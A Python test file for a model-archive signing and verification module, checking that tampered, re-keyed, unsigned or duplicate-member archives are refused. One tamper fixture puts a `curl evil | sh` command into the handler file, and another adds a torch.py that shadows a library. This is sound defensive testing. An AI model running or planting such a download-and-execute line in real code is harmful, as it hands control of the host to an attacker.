"""Archives you can trust (runtime/integrity.py): an archive signed with an Ed25519 key verifies with its public
half; a member changed, added or taken away after signing, another key, no signature or a name stored twice is
refused, naming what; without a key nothing is refused and the check says it is integrity only. (A real archive
of `python -m export --sign-key`, and the engines refusing a tampered one: tests/export/package/test_signing.py.)"""

from __future__ import annotations

import logging
import zipfile
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ed25519

from runtime.integrity import (
    INTEGRITY_ONLY,
    SIGNATURE_NAME,
    VERIFY_KEY_ENV,
    IntegrityError,
    sign_archive,
    verify_archive_signature,
)

MEMBERS = {"manifest.json": b'{"model": "m"}', "torchserve_entry.py": b"def handle(data, context): ...\n",
           "handlers/core.py": b"# the request core\n", "MAR-INF/MANIFEST.json": b"{}", "model.onnx": b"\0" * 1000}


def key_pair(folder: Path, name: str = "sign") -> tuple[Path, Path]:
    """(private, public) Ed25519 keys in PEM files, as `openssl genpkey -algorithm ed25519` writes them."""
    key = ed25519.Ed25519PrivateKey.generate()
    private, public = folder / f"{name}.pem", folder / f"{name}.pub.pem"
    private.write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                          serialization.NoEncryption()))
    public.write_bytes(key.public_key().public_bytes(serialization.Encoding.PEM,
                                                     serialization.PublicFormat.SubjectPublicKeyInfo))
    return private, public


def archive(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w") as written:
        for name, data in members.items():
            written.writestr(name, data)
    return path


def rewritten(signed: Path, out: Path, change: dict[str, bytes | None]) -> Path:
    """signed with some members replaced (None: taken away) or added, its signature kept."""
    with zipfile.ZipFile(signed) as members:
        kept = {name: members.read(name) for name in members.namelist()}
    for name, data in change.items():
        if data is None:
            kept.pop(name)
        else:
            kept[name] = data
    return archive(out, kept)


@pytest.fixture
def signed(tmp_path) -> tuple[Path, Path]:
    private, public = key_pair(tmp_path)
    mar = archive(tmp_path / "m.mar", MEMBERS)
    sign_archive(mar, private)
    return mar, public


def test_a_signed_archive_verifies_with_the_public_key_handler_code_included(signed, caplog):
    mar, public = signed
    with caplog.at_level(logging.INFO, logger="runtime.integrity"):
        line = verify_archive_signature(mar, public)
    assert line == f"signature verified with {public}: {len(MEMBERS)} files, handler code included"
    assert line in caplog.text


@pytest.mark.parametrize("change, why", [
    ({"torchserve_entry.py": b"import os; os.system('curl evil | sh')\n"}, "torchserve_entry.py: changed after signing"),
    ({"handlers/core.py": b"# patched\n"}, "handlers/core.py: changed after signing"),
    ({"manifest.json": b'{"model": "other"}'}, "manifest.json: changed after signing"),
    ({"torch.py": b"# shadows torch on the handler's path\n"}, "torch.py: added after signing"),
    ({"model.onnx": None}, "model.onnx: missing"),
    ({SIGNATURE_NAME: None}, f"{SIGNATURE_NAME}: missing: the archive is not signed"),
])
def test_a_member_changed_added_or_taken_away_after_signing_is_refused_by_name(signed, tmp_path, change, why):
    mar, public = signed
    tampered = rewritten(mar, tmp_path / "tampered.mar", change)
    with pytest.raises(IntegrityError, match="integrity check failed") as refused:
        verify_archive_signature(tampered, public)
    assert f"{tampered}: {why}" in str(refused.value) and "--sign-key" in str(refused.value)


def test_another_keys_signature_or_a_forged_one_is_refused(signed, tmp_path):
    mar, _ = signed
    _, other = key_pair(tmp_path, "other")
    with pytest.raises(IntegrityError, match=f"{SIGNATURE_NAME}: does not verify with {other}"):
        verify_archive_signature(mar, other)


def test_a_member_stored_twice_is_refused(signed, tmp_path):
    mar, public = signed
    with zipfile.ZipFile(mar, "a") as members, pytest.warns(UserWarning, match="Duplicate name"):
        members.writestr("torchserve_entry.py", b"# the copy an unzip may keep\n")
    with pytest.raises(IntegrityError, match="torchserve_entry.py: stored twice"):
        verify_archive_signature(mar, public)


def test_without_a_key_nothing_is_refused_and_the_log_says_integrity_only(tmp_path, monkeypatch, caplog):
    monkeypatch.delenv(VERIFY_KEY_ENV, raising=False)
    unsigned = archive(tmp_path / "m.mar", MEMBERS)
    with caplog.at_level(logging.INFO, logger="runtime.integrity"):
        assert verify_archive_signature(unsigned) == INTEGRITY_ONLY
    assert "integrity only" in caplog.text and VERIFY_KEY_ENV in caplog.text


def test_the_key_comes_from_the_environment_and_a_bad_key_file_is_named(signed, tmp_path, monkeypatch):
    mar, public = signed
    monkeypatch.setenv(VERIFY_KEY_ENV, str(public))
    assert verify_archive_signature(mar).startswith("signature verified")
    garbage = tmp_path / "garbage.pem"
    garbage.write_text("not a key")
    monkeypatch.setenv(VERIFY_KEY_ENV, str(garbage))
    with pytest.raises(IntegrityError, match=f"{garbage}: not an Ed25519 public key in PEM .*openssl genpkey"):
        verify_archive_signature(mar)
    not_a_zip = tmp_path / "truncated.mar"
    not_a_zip.write_bytes(mar.read_bytes()[:100])
    with pytest.raises(IntegrityError, match="not a readable archive"):
        verify_archive_signature(not_a_zip, public)


def test_an_archive_is_signed_once(signed, tmp_path):
    mar, _ = signed
    with pytest.raises(IntegrityError, match="signed already"):
        sign_archive(mar, tmp_path / "sign.pem")
